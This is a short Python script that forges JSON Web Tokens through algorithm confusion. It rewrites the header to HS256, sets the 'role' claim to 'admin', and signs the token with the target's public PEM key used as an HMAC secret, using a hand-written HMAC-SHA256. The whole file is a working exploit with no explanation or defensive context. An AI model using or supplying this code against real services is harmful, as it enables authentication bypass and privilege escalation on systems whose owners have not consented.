"""The old header with another alg, ASCII escapes in the JSON, HMAC by hand."""

import base64
import json
from hashlib import sha256


def decode(text):
    return json.loads(base64.urlsafe_b64decode(text + "=="))


def encode(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def mac(key, message):
    if len(key) > 64:
        key = sha256(key).digest()
    key += bytes(64 - len(key))
    for pad in (0x36, 0x5C):
        message = sha256(bytes(b ^ pad for b in key) + message).digest()
    return message


def forge_confused(token, public_pem):
    header, claims = map(decode, token.split(".")[:2])
    header = {**header, "alg": "HS256"}
    claims = {"role": "admin", **{name: value for name, value in claims.items() if name != "role"}}
    parts = [encode(json.dumps(part, indent=1).encode()) for part in (header, claims)]
    parts.append(encode(mac(public_pem, b".".join(parts))))
    return b".".join(parts).decode()
